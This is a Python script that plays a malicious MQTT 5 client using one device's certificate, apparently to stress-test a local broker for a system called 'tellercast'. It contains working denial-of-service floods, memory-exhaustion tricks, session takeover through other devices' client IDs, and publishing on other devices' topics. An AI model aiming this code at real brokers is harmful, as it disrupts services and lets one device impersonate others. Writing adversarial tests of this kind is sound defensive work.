"""Somebody with the certificate of one device, who does his worst until he is ended: each of his threads speaks MQTT 5 by hand,
and connects again whenever the broker ends its connection. At first he does as much as no limit forbids, since an identity that
does too much that is denied is suspended; after the line "rage" on standard input he does everything, as fast as he can. After
the next line he ends, and prints how often he did what.

attacker.py PORT CERTIFICATE: CERTIFICATE is a JSON object of settings; its name is the device's ID."""

import collections
import itertools
import json
import os
import socket
import ssl
import sys
import threading
import time

PORT, CERTIFICATE = int(sys.argv[1]), json.loads(sys.argv[2])
OWN = CERTIFICATE["name"]
PAUSE_S, PATIENT_PERIOD_S = 0.02, 1
PINGS_A_RECORD = 8000  # of TLS, which has 16 KiB: the broker answers all of them before it reads from another connection
PINGS = b"\xc0\0" * PINGS_A_RECORD
counts, rages, ends = collections.Counter(), threading.Event(), threading.Event()


def text(value):
    raw = value.encode() if isinstance(value, str) else value
    return len(raw).to_bytes(2, "big") + raw


def number_of(length):
    """As MQTT writes it."""
    encoded = b""
    while True:
        length, low = length >> 7, length & 0x7F
        encoded += bytes([low | (0x80 if length else 0)])
        if not length:
            return encoded


def packet(head, body):
    return bytes([head]) + number_of(len(body)) + body


def properties(pairs, size):
    every = pairs * (b"\x26" + text("k") + text(size * "x"))
    return number_of(len(every)) + every


LARGE_PROPERTIES = properties(20, 60000)


def publish(topic, payload, qos=0, retain=False, number=1):
    return packet(0x30 | qos << 1 | retain, text(topic) + (number.to_bytes(2, "big") if qos else b"") + b"\0" + payload)


class Link:
    """A connection; `client_id` may be another's."""

    def __init__(self, client_id, will=None):
        context = ssl.create_default_context(cafile=CERTIFICATE["ca_file"])
        context.check_hostname = False
        context.load_cert_chain(CERTIFICATE["certificate_file"], CERTIFICATE["key_file"])
        self.socket = context.wrap_socket(socket.create_connection(("127.0.0.1", PORT), timeout=5))
        flags = 0x02 | (0x2C if will else 0)
        body = text("MQTT") + bytes([5, flags, 0, 60]) + b"\0" + text(client_id)
        if will:
            body += b"\0" + text(will) + text("bad")
        self.socket.sendall(packet(0x10, body))
        answer = self.socket.recv(4096)
        if len(answer) < 4 or answer[3] != 0:
            raise OSError("refused")

    def flood(self, packets):
        for bytes_ in packets:
            if ends.is_set():
                return
            self.socket.sendall(bytes_)
            counts["sent"] += 1

    def close(self):
        self.socket.close()


def join_shares(link):
    filters = ["$share/tellercast/tc/v1/device/+/ask", "$share/tellercast/tc/v1/device/+/reply", "tc/v1/device/+/instruction", "#"]
    for number, name in enumerate(filters, 1):
        link.socket.sendall(packet(0x82, number.to_bytes(2, "big") + b"\0" + text(name) + b"\1"))
    link.socket.settimeout(1)
    while not ends.is_set() and link.socket.recv(65536):
        pass


def ask_much(link):
    versions = json.dumps({"versions": {f"app-{n}": "9" * 60 for n in range(64)}, "nonce": "n1"}).encode()
    link.flood(publish(f"tc/v1/device/{OWN}/ask", versions) for _ in range(20000))


def ask_badly(link):
    link.flood(publish(f"tc/v1/device/{OWN}/ask", b"{" * 200) for _ in range(20000))


def report_much(link):
    link.flood(publish(f"tc/v1/device/{OWN}/reply", b"{}", 1, number=n % 65000 + 1) for n in range(20000))


def retain_large(link):
    large = bytes(1 << 20)
    link.flood(publish(f"tc/v1/branch/B{n % 9}/dispatch/A{n % 9}", large, 1, True, n + 1) for n in range(60))


def report_with_properties(link):
    body = text(f"tc/v1/device/{OWN}/reply") + b"\0\1" + LARGE_PROPERTIES + b"{}"
    link.flood(packet(0x32, body) for _ in range(100))


def speak_for_others(link):
    link.flood(publish(f"tc/v1/device/A{n % 9}/{kind}", b"", 1, number=n % 65000 + 1)
               for n in range(5000) for kind in ("ask", "reply", "instruction", "confirm"))


def is_patient():
    return not rages.is_set() and not ends.is_set()


# ---- what no limit forbids ----

def be_patient(link):
    """The largest asks and reports, as often as the guard takes them; between them pings, whose answers nobody reads, so that they
    fill the broker's memory, and floods of unsubscriptions."""
    versions = json.dumps({"versions": {f"app-{n}": "9" * 60 for n in range(64)}, "nonce": "n1"}).encode()
    filters = b"".join(text(f"tc/v1/device/{n}/ask") for n in range(500))
    for number in itertools.cycle(range(1, 65000)):
        link.flood([publish(f"tc/v1/device/{OWN}/reply", b"{" * 30000, 1, number=number)] * 2)
        link.flood([publish(f"tc/v1/device/{OWN}/ask", versions)])
        link.flood([publish(f"tc/v1/device/{OWN}/presence", b" " * 1000, 1, True, number)])
        until = time.monotonic() + PATIENT_PERIOD_S
        while is_patient() and time.monotonic() < until:
            link.flood([PINGS, packet(0xA2, b"\0\1\0" + filters)])
            counts["pings"] += PINGS_A_RECORD
        if not is_patient():
            return


PATIENT_ACTS = [be_patient]

# ---- and the rest ----

ACTS = [join_shares, ask_much, ask_badly, report_much, retain_large, report_with_properties, speak_for_others]


def act_for_ever(act):
    if act not in PATIENT_ACTS:
        rages.wait()
    while is_patient() if act in PATIENT_ACTS else not ends.is_set():
        try:
            link = Link(OWN, f"tc/v1/device/{OWN if act in PATIENT_ACTS else 'A1'}/presence")
            counts["connected"] += 1
            act(link)
            link.close()
        except OSError:
            counts["refused"] += 1
        time.sleep(PAUSE_S)


def take_over():
    """Connects with the client IDs of others, for which nobody is suspended."""
    for victim in itertools.cycle([f"A{n}" for n in range(9)] + ["B1", "central", "orchestrator-1-in"]):
        if ends.is_set():
            return
        try:
            Link(victim).close()
            counts["taken over"] += 1
        except OSError:
            counts["refused"] += 1
        time.sleep(PAUSE_S)


def main():
    os.nice(5)
    threads = [threading.Thread(target=act_for_ever, args=(act,), daemon=True) for act in PATIENT_ACTS + ACTS]
    threads.append(threading.Thread(target=take_over, daemon=True))
    for thread in threads:
        thread.start()
    sys.stdin.readline()
    rages.set()
    sys.stdin.readline()
    ends.set()
    print(json.dumps(counts), flush=True)
    os._exit(0)


main()
